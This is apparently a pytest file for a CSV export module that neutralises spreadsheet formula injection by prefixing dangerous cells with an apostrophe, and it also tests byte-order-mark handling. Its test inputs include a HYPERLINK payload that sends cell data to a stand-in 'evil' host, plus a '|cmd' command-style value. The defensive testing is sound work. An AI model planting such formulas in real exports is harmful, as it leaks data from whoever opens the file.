"""CSV as a spreadsheet opens it."""

import csv
import io

import pytest

from papers.csv_output import stays_text, write_csv


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil/?"&A1,"点此")',
        "+86 13812345678",
        "-1+2",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u3000=1+1",
        "\u200b=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "|cmd",
    ],
)
def test_a_cell_that_would_calculate_stays_text(cell: str) -> None:
    assert stays_text(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "——同意", "您好=同意", "市教育局", "2026-11-20 09:30", "1=1", "'=1", "（=）"])
def test_other_cells_stay_as_they_are(cell: str) -> None:
    assert stays_text(cell) == cell


def test_a_csv_begins_with_the_mark_that_spreadsheets_look_for() -> None:
    raw = io.BytesIO()
    out = io.TextIOWrapper(raw, encoding="utf-8", newline="")
    write_csv(out, ("单位", "件数"), [("=甲", -1), ('乙,"\n', 2)])
    out.flush()

    assert raw.getvalue()[:3] == b"\xef\xbb\xbf"
    rows = list(csv.reader(io.StringIO(raw.getvalue().decode("utf-8-sig"), newline="")))
    assert rows == [["单位", "件数"], ["'=甲", "-1"], ['乙,"\n', "2"]]


def test_in_gb18030_no_mark_is_needed() -> None:
    raw = io.BytesIO()
    out = io.TextIOWrapper(raw, encoding="gb18030", newline="")
    write_csv(out, ("单位",), [])
    out.flush()

    assert raw.getvalue().decode("gb18030") == "单位\n"
